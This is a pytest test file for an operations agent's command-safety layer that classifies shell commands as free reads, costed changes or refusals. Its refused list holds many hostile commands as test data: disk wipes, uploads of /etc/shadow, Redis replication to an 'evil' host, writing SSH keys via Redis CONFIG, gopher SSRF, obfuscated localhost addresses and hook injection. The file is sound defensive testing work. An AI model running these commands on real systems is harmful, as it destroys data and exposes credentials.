"""What each command costs, or that it is refused: one line per command."""

import shlex

import pytest

from agent.domain.command import Refusal
from agent.safety.effects import EffectTables

TABLES = EffectTables.load()


class Replicas:
    """Every workload in `production` has five pods; nobody knows about other namespaces."""

    def workload_pods(self, namespace, kind, name):
        return 5 if namespace == "production" else None

    def selected_pods(self, namespace, labels, fields):
        return None

    def release_workloads(self, namespace, release):
        return [("deployment", "api", 5)] if namespace == "production" else None

    def node_pods(self, node):
        return None

    def workload_replicas(self, namespace, kind, name):
        return None


def price(command):
    return TABLES.price(shlex.split(command), counter=Replicas())


READS = """
echo hello
echo -e --anything 'goes $here'
printf '%s\\n' a b
true
false
sleep 5
sleep 0.5
date
date -u +%Y-%m-%dT%H:%M:%SZ
date -d 'yesterday' +%s
hostname
hostname -f
uptime -p
whoami
nproc
uname -a
free -m
free -h
vmstat 1 5
df -h
df -hT /var/log
df --output=pcent,target
du -sh /var/log
du -d 1 -h /var
ls -lah /var/log
ls -1 /etc/nginx
stat /var/log/syslog
ps aux
ps -ef
ps -eo pid,ppid,%mem,%cpu,args --sort=-%mem
ps -p 1 -o etime=
pgrep -af nginx
ss -tlnp
ss -s
ss -tan state established
cat
cat /proc/loadavg
cat /var/log/nginx/error.log
head -20 /var/log/syslog
head -n 5 /etc/os-release
tail -n 100 /var/log/syslog
tail -100 /var/log/syslog
tail -c 1k /var/log/syslog
grep -c ERROR /var/log/app/app.log
grep -iE 'timeout|refused' /var/log/app/app.log
grep -e a -e b
grep -m1 -A 3 -B3 x
wc -l
wc -l /var/log/syslog
sort -rn
sort -t, -k2,2n
uniq -c
cut -d: -f1
cut -d ' ' -f 2-
tr -d '"'
tr a-z A-Z
column -t
jq .redis
jq -r '.items[] | .metadata.name'
jq -rc --arg n x '.[$n]'
jq -e '.env == "prod" and .environment' /var/log/app.json
systemctl status nginx
systemctl status nginx --no-pager -n 20
systemctl is-active nginx.service
systemctl show nginx -p ActiveState --value
systemctl list-units --failed --no-pager
journalctl -u nginx -n 50 --no-pager
journalctl -u nginx --since '10 minutes ago' -p err
journalctl --disk-usage
logrotate -d /etc/logrotate.conf
curl -s localhost:8080/health
curl -sSf http://api.internal:8080/health?full=1
curl -sSfm5 https://api.example.com/
curl -s -o /dev/null -w '%{http_code}' http://localhost/
curl -I https://example.com
curl -X GET -H 'Accept: application/json' http://localhost:9200/_cluster/health
curl --max-time 5 --connect-timeout 2 --retry 3 http://localhost/
curl http://[::1]:8080/
/usr/bin/curl -s localhost
dig example.com
dig +short @10.0.0.2 example.com A
host example.com
nslookup example.com
ping -c 3 10.0.0.1
getent hosts example.com
pg_isready -h db.internal -p 5432
openssl version
openssl x509 -noout -enddate -in /etc/ssl/certs/site.pem
openssl s_client -connect example.com:443 -servername example.com
openssl verify -CAfile /etc/ssl/certs/ca.pem /etc/ssl/certs/site.pem
certbot certificates
redis-cli PING
redis-cli ping
redis-cli -h cache.internal -p 6380 -n 2 INFO memory
redis-cli DBSIZE
redis-cli GET session:1
redis-cli LLEN queue:jobs
redis-cli SCAN 0 MATCH 'session:*' COUNT 100
redis-cli CLIENT LIST
redis-cli CONFIG GET maxmemory
redis-cli SLOWLOG GET 10
redis-cli MEMORY USAGE big:key
redis-cli LATENCY LATEST
redis-cli --no-auth-warning TTL k
kubectl get pods
kubectl get pods -n production -l app=api -o wide
kubectl get pod api-1 -n production -o jsonpath='{.status.phase}'
kubectl get deploy,rs,pods -n=production
kubectl get deployments.apps -A
kubectl get nodes
kubectl get events --sort-by=.lastTimestamp -n production
kubectl get all -n production
kubectl get hpa/api pdb/api
kubectl describe pod api-1 -n production
kubectl describe node worker-1
kubectl logs deploy/api -n production --tail=100 --since=10m
kubectl logs api-1 -c app -p
kubectl logs -l app=api --prefix --all-containers
kubectl top pods -n production
kubectl top nodes
kubectl version
kubectl version --client
kubectl rollout status deployment/api -n production --timeout=120s
kubectl rollout history deploy/api
kubectl wait --for=condition=Ready pod/api-1 --timeout=60s
kubectl auth can-i create pods --subresource=exec -n production
kubectl exec -n production deploy/api -- curl -s localhost:8080/health
kubectl exec api-1 -c app -- df -h
kubectl -n production exec sts/redis -- redis-cli INFO
docker ps
docker ps -a --filter status=exited --format '{{.Names}} {{.Status}}'
docker inspect --format '{{.State.Status}}' api
docker logs --tail 100 api
docker stats --no-stream
helm list -n production
helm status api -n production
helm history api
"""

CHANGES = [
    ("redis-cli FLUSHDB", [("cache_operation", 1)]),
    ("redis-cli flushdb", [("cache_operation", 1)]),
    ("redis-cli FLUSHALL ASYNC", [("cache_operation", 1)]),
    ("redis-cli -r 3 FLUSHDB", [("cache_operation", 3)]),
    ("redis-cli DEL a b c", [("cache_operation", 3)]),
    ("redis-cli -r 2 -i 0.1 UNLINK a b", [("cache_operation", 4)]),
    ("redis-cli SET k v EX 60", [("cache_operation", 1)]),
    ("redis-cli EXPIRE k 60", [("cache_operation", 1)]),
    ("redis-cli CLIENT KILL TYPE normal", [("cache_operation", 1)]),
    ("redis-cli CLIENT UNPAUSE", [("cache_operation", 1)]),
    ("redis-cli SCRIPT FLUSH", [("cache_operation", 1)]),
    ("redis-cli MEMORY PURGE", [("cache_operation", 1)]),
    ("redis-cli CONFIG SET maxmemory 2gb", [("config_change", 1)]),
    ("redis-cli CONFIG GET requirepass", [("read", 1), ("secret_read", 1)]),
    ("redis-cli CONFIG GET masterauth", [("read", 1), ("secret_read", 1)]),
    ("systemctl restart nginx", [("service_restart", 1)]),
    ("systemctl restart nginx php-fpm", [("service_restart", 2)]),
    ("systemctl reload nginx.service", [("service_restart", 1)]),
    ("systemctl start app@1.service", [("service_restart", 1)]),
    ("systemctl show nginx -p Environment", [("read", 1), ("secret_read", 1)]),
    ("journalctl --vacuum-time=2d", [("log_rotation", 1)]),
    ("journalctl --vacuum-size 500M", [("log_rotation", 1)]),
    ("journalctl --rotate --vacuum-time=1d", [("log_rotation", 1), ("log_rotation", 1)]),
    ("logrotate -f /etc/logrotate.d/nginx", [("log_rotation", 1)]),
    ("certbot renew --cert-name example.com", [("certificate_renewal", 1)]),
    ("docker restart api worker", [("service_restart", 2)]),
    ("helm rollback api 3 -n production", [("rollout", 1), ("pod_restart", 5)]),
    ("kubectl delete pod api-1 -n production", [("pod_restart", 1)]),
    ("kubectl delete pods a b c -n production", [("pod_restart", 3)]),
    ("kubectl delete pod/a pod/b -n production --wait=false", [("pod_restart", 2)]),
    ("kubectl rollout restart deploy/api -n production", [("rollout", 1), ("pod_restart", 5)]),
    ("kubectl rollout restart deployment api web -n production", [("rollout", 1), ("pod_restart", 5)] * 2),
    ("kubectl rollout undo sts/db -n production --to-revision=2", [("rollout", 1), ("pod_restart", 5)]),
    ("kubectl scale deploy/api --current-replicas=2 --replicas=4 -n production", [("scale", 2)]),
    ("kubectl scale --current-replicas 5 --replicas 2 deploy/a deploy/b -n production", [("scale", 3)] * 2),
    ("kubectl exec -n production deploy/redis -- redis-cli FLUSHDB", [("cache_operation", 1)]),
    ("kubectl exec -n production redis-0 -- redis-cli -r 4 DEL a b", [("cache_operation", 8)]),
    ("kubectl get secrets -n production", [("read", 1), ("secret_read", 1)]),
    ("kubectl get secret/db -o yaml -n production", [("read", 1), ("secret_read", 1)]),
    ("kubectl get pods,secrets", [("read", 1), ("secret_read", 1)]),
    ("kubectl describe secret db", [("read", 1), ("secret_read", 1)]),
    ("kubectl exec -n x api-1 -- cat /run/secrets/db", [("read", 1), ("secret_read", 1)]),
    ("cat /etc/shadow", [("read", 1), ("secret_read", 1)]),
    ("cat /proc/1/environ", [("read", 1), ("secret_read", 1)]),
    ("cat /proc/self/environ", [("read", 1), ("secret_read", 1)]),
    ("head -1 /root/.ssh/id_rsa", [("read", 1), ("secret_read", 1)]),
    ("grep . /home/x/.aws/credentials", [("read", 1), ("secret_read", 1)]),
    ("tail /var/run/secrets/kubernetes.io/serviceaccount/token", [("read", 1), ("secret_read", 1)]),
    ("jq . /root/.docker/config.json", [("read", 1), ("secret_read", 1)]),
    ("sort /etc/ssl/private/site.key", [("read", 1), ("secret_read", 1)]),
    ("cat /srv/app/.env", [("read", 1), ("secret_read", 1)]),
    ("curl http://169.254.169.254/", [("read", 1), ("secret_read", 1)]),
    ("curl http://h/latest/meta-data/", [("read", 1), ("secret_read", 1)]),
    ("curl http://metadata.google.internal/", [("read", 1), ("secret_read", 1)]),
    ("curl http://[::ffff:169.254.169.254]/", [("read", 1), ("secret_read", 1)]),
    ("curl http://localhost:8080/actuator/env", [("read", 1), ("secret_read", 1)]),
    ("curl http://localhost:8200/v1/secret/data/db", [("read", 1), ("secret_read", 1)]),
    ("curl -X POST http://localhost/x", [("opaque", 1)]),
    ("curl -X DELETE http://localhost:9200/index", [("opaque", 1)]),
    ("curl -d a=b http://localhost/x", [("opaque", 1)]),
    ("curl -X GET -d a=b http://localhost/x", [("opaque", 1)]),
    ("curl -XPOST http://localhost/x", [("opaque", 1)]),
    ("curl -sX PURGE http://localhost/x", [("opaque", 1)]),
    ("curl --json '{}' http://localhost/x", [("opaque", 1)]),
]

REFUSED = """
nosuchprogram
sh -c 'rm -rf /'
bash script.sh
/bin/sh -c id
env curl http://localhost
sudo systemctl restart nginx
xargs rm
ssh host reboot
find / -delete
nohup sleep 5
eval id
python3 -c 'print(1)'
perl -e 1
awk '{print $1}'
sed -i s/a/b/ /etc/hosts
nc -z localhost 80
tee /etc/passwd
busybox sh
rm -rf /
dd if=/dev/zero of=/dev/sda
kill -9 1
psql -c 'SELECT 1'
/tmp/curl http://localhost
./curl http://localhost
bin/curl http://localhost
/usr/bin/../bin/curl http://localhost
/usr/bin//curl http://localhost
/opt/acme/flip.sh a
date 010203042026
date -s tomorrow
date --set=tomorrow
hostname evil
sleep 1000
sleep infinity
cat /etc/fstab.old
cat /opt/app/config.yaml
cat config.yaml
cat /var/log/../../etc/shadow
cat /var/log//../x
cat /var/log/./x
cat //etc/shadow
head -n /etc/shadow
tail -f /var/log/syslog
tail -F /var/log/syslog
tail --follow=name /var/log/syslog
tail -n 5f /var/log/syslog
grep -r password /etc
grep -rn x /var/log
grep -f /etc/shadow x
grep --file=/etc/shadow x
grep --fil=/etc/shadow x
grep --include=x y
sort -o /etc/passwd
sort -ro /etc/passwd
sort --output=/etc/passwd
sort --compress-program=sh
sort --files0-from=/etc/shadow
sort -T /tmp
uniq /var/log/a /var/log/b
wc --files0-from=/etc/shadow
ps e
ps auxe
ps eww
ps -eo pid,environ
free -s 1
vmstat 1
ls
ls -l relative
du
ss -K dst 10.0.0.1
ss -D /tmp/x
jq
jq env
jq 'env.HOME'
jq '$ENV.HOME'
jq '.a | $ENV'
jq '"\\(env)"'
jq 'import "x" as x; .'
jq 'include "x"; .'
jq -f /etc/shadow
jq -L /tmp .
jq -nL/tmp .
jq --slurpfile a /etc/shadow .
jq --rawfile a /etc/shadow .
jq . relative.json
systemctl stop nginx
systemctl disable nginx
systemctl daemon-reload
systemctl reboot
systemctl poweroff
systemctl start reboot.target
systemctl start systemd-poweroff.service
systemctl start debug-shell
systemctl isolate rescue.target
systemctl restart 'ngin*'
systemctl -H host restart nginx
systemctl show nginx
systemctl cat nginx
systemctl restart
journalctl -f
journalctl -fu nginx
journalctl --file /etc/shadow
journalctl -D /root
logrotate /tmp/evil.conf
logrotate /etc/logrotate.d/../../tmp/evil
logrotate -s /etc/passwd /etc/logrotate.conf
logrotate -m sh /etc/logrotate.conf
curl
curl -s
curl http://a http://b
curl -o /etc/passwd http://localhost
curl -o/etc/passwd http://localhost
curl -so /etc/passwd http://localhost
curl -O http://localhost/x
curl -K /etc/shadow
curl -T /etc/shadow http://localhost
curl -F f=@/etc/shadow http://localhost
curl -d @/etc/shadow http://localhost
curl --data @/etc/shadow http://localhost
curl --data-binary @/etc/shadow http://localhost
curl --data-urlencode x@/etc/shadow http://localhost
curl --json @/etc/shadow http://localhost
curl -b /etc/shadow http://localhost
curl -c /etc/passwd http://localhost
curl -D /etc/passwd http://localhost
curl -w @/etc/shadow http://localhost
curl -w '%output{/etc/passwd}x' http://localhost
curl -H @/etc/shadow http://localhost
curl -H 'Authorization: Bearer x' http://localhost
curl -H 'X-HTTP-Method-Override: DELETE' http://localhost
curl -H 'Host: other' http://localhost
curl -u user:pass http://localhost
curl -L http://localhost
curl -sSL http://localhost
curl -k https://localhost
curl -x http://proxy http://localhost
curl --unix-socket /var/run/docker.sock http://localhost/containers/json
curl --resolve a:80:1.2.3.4 http://a
curl --connect-to a:80:b:80 http://a
curl --retry 100 http://localhost
curl --retr 3 http://localhost
curl --max-time=5 http://localhost
curl -X post http://localhost
curl -X POST --retry 3 http://localhost
curl file:///etc/shadow
curl ftp://localhost
curl ftp.example.com
curl gopher://localhost:6379/_FLUSHALL
curl dict://localhost:6379/FLUSHALL
curl telnet://localhost
curl scp://localhost/x
curl http://user:pass@localhost
curl http://evil@localhost
curl 'http://localhost/{a,b}'
curl 'http://localhost/[1-99]'
curl 'http://localhost#@evil'
curl 'http://localhost\\@evil'
curl http://0x7f000001/
curl http://2130706433/
curl http://0177.0.0.1/
curl http://127.1/
curl http://1.2.3.4.5.6.7/
curl http://localhost:99999/
curl http://localhost:0/
curl --next http://localhost
curl -- http://localhost
curl -q -K /tmp/x
dig -f /etc/shadow
dig example.com AXFR
ping 10.0.0.1
ping -c 100 10.0.0.1
ping -f -c 3 10.0.0.1
openssl enc -d -in /etc/shadow
openssl x509 -in /etc/ssl/certs/a.pem
openssl x509 -noout -in /etc/ssl/certs/a.pem -out /etc/passwd
openssl s_client -connect a:443 -proxy b:80
openssl s_server -accept 443
openssl rsa -in /etc/ssl/private/a.key
certbot renew
certbot renew --cert-name a --pre-hook 'rm -rf /'
certbot delete --cert-name a
redis-cli
redis-cli -h localhost
redis-cli -x SET k
redis-cli --pipe
redis-cli -a secret PING
redis-cli --pass secret PING
redis-cli -u redis://:secret@h PING
redis-cli -s /var/run/redis.sock PING
redis-cli --eval /tmp/x.lua
redis-cli EVAL 'return 1' 0
redis-cli SHUTDOWN NOSAVE
redis-cli DEBUG SLEEP 100
redis-cli REPLICAOF evil 6379
redis-cli SLAVEOF evil 6379
redis-cli MODULE LOAD /tmp/x.so
redis-cli CONFIG SET dir /root/.ssh
redis-cli CONFIG SET dbfilename authorized_keys
redis-cli CONFIG SET requirepass x
redis-cli CONFIG REWRITE
redis-cli CONFIG GET '*'
redis-cli CONFIG
redis-cli KEYS '*'
redis-cli MONITOR
redis-cli SUBSCRIBE x
redis-cli ACL LIST
redis-cli MIGRATE h 6379 k 0 1000
redis-cli SAVE
redis-cli -r -1 PING
redis-cli -r 99999999999 PING
redis-cli 'CLIENT LIST'
redis-cli CLIENT -h evil LIST
redis-cli --rdb /tmp/x
redis-cli --cluster reshard
kubectl
kubectl get
kubectl gett pods
kubectl get unicorns
kubectl get pods -w
kubectl get pods --watch
kubectl get --raw /api/v1/secrets
kubectl get -f /tmp/x.yaml
kubectl get pods -o go-template-file=/etc/shadow
kubectl get pods --kubeconfig=/tmp/x
kubectl --context=other get pods
kubectl -s http://evil get pods
kubectl --server=http://evil get pods
kubectl --token=x get pods
kubectl --as=admin get pods
kubectl -v=9 get pods
kubectl --namespac=x get pods
kubectl get pods -n a -n b
kubectl get pods -n ../../x
kubectl logs -f api-1
kubectl logs
kubectl apply -f x.yaml
kubectl patch deploy api -p '{}'
kubectl edit deploy api
kubectl create secret generic x
kubectl run x --image=evil
kubectl cp a:/x /tmp/x
kubectl port-forward api-1 8080
kubectl proxy
kubectl attach api-1
kubectl debug node/x
kubectl drain node-1
kubectl taint nodes a b
kubectl set image deploy/api a=b
kubectl delete namespace production
kubectl delete pod -l app=api -n production
kubectl delete pods --all -n production
kubectl delete pod api-1
kubectl delete pod -n production
kubectl delete pod api-1 -n production --force
kubectl delete pod api-1 -n production --grace-period=0
kubectl delete -f x.yaml
kubectl rollout restart deploy/api
kubectl rollout restart deploy/api -n staging
kubectl rollout restart deploy -n production
kubectl rollout restart pod/api -n production
kubectl rollout pause deploy/api -n production
kubectl scale deploy/api --replicas=0 -n production
kubectl scale deploy/api -n production
kubectl scale --all --replicas=1 -n production
kubectl scale deploy/api --replicas=-1 -n production
kubectl scale deploy/api --replicas=2
kubectl exec -n production deploy/api
kubectl exec -n production deploy/api curl localhost
kubectl exec -n production deploy/api --
kubectl exec -it -n production deploy/api -- redis-cli PING
kubectl exec -i -n production deploy/api -- redis-cli PING
kubectl exec -n production deploy/api -- sh -c id
kubectl exec -n production deploy/api -- env
kubectl exec -n production deploy/api -- cat /app/config.yaml
kubectl exec -n production deploy/api -- kubectl get pods
kubectl exec -n production deploy/api -- rm -rf /
kubectl exec deploy/redis -- redis-cli FLUSHDB
kubectl exec -n production secret/x -- ls /
kubectl exec -n production a b -- ls /
docker inspect api
docker inspect --format '{{.Config.Env}}' api
docker inspect --format '{{json .}}' api
docker exec api sh
docker run alpine
docker rm api
docker stop api
docker stats
docker logs -f api
docker -H tcp://evil ps
docker --context evil ps
helm upgrade api x
helm uninstall api
helm get values api
helm rollback api 3
helm rollback api
"""


def lines(block):
    return [line for line in block.strip().splitlines() if line]


@pytest.mark.parametrize("command", lines(READS))
def test_reading_is_free(command):
    effects = price(command)
    assert not isinstance(effects, Refusal), str(effects)
    assert [effect.effect_class for effect in effects] == ["read"]


@pytest.mark.parametrize(("command", "expected"), CHANGES, ids=[command for command, _ in CHANGES])
def test_changing_costs_what_it_changes(command, expected):
    effects = price(command)
    assert not isinstance(effects, Refusal), str(effects)
    assert [(effect.effect_class, effect.count) for effect in effects] == expected


@pytest.mark.parametrize("command", lines(REFUSED))
def test_what_is_not_known_is_refused_with_words(command):
    refusal = price(command)
    assert isinstance(refusal, Refusal), f"priced: {refusal}"
    assert refusal.reason


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("curl -s localhost:8080/health", "localhost:8080"),
        ("redis-cli -h cache -p 6380 FLUSHDB", "redis cache:6380"),
        ("redis-cli FLUSHDB", "redis localhost:6379"),
        ("systemctl restart a b", "a,b"),
        ("kubectl delete pod a b -n production", "production/pod/a,pod/b"),
        ("kubectl rollout restart deploy/api -n production", "production/deployment/api"),
        (
            "kubectl exec -n production deploy/redis-primary -- redis-cli FLUSHDB",
            "production/deployment/redis-primary: redis localhost:6379",
        ),
        ("curl -X DELETE http://h/x", "DELETE http://h/x"),
        ("cat /var/log/a /var/log/b", "/var/log/a,/var/log/b"),
    ],
)
def test_the_target_says_what_is_touched(command, target):
    assert price(command)[0].target == target


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("kubectl gett pods", "did you mean get"),
        ("kubectl get pod -n x --selecto=a", "--selector"),
        ("curll http://x", "did you mean curl"),
        ("redis-cli FLUSDB", "FLUSHDB"),
        ("kubectl get pdos", "pods"),
        ("redis-cli -a x PING", "REDISCLI_AUTH"),
        ("sh -c x", "scripts"),
    ],
)
def test_a_refusal_names_the_nearest_known_alternative(command, words):
    assert words in str(price(command))


def test_without_a_counter_a_rollout_cannot_be_counted():
    refusal = TABLES.price(shlex.split("kubectl rollout restart deploy/api -n production"))
    assert "cannot count" in str(refusal)


def test_an_empty_argv_is_refused():
    assert isinstance(TABLES.price(()), Refusal)
    assert isinstance(TABLES.price(("",)), Refusal)
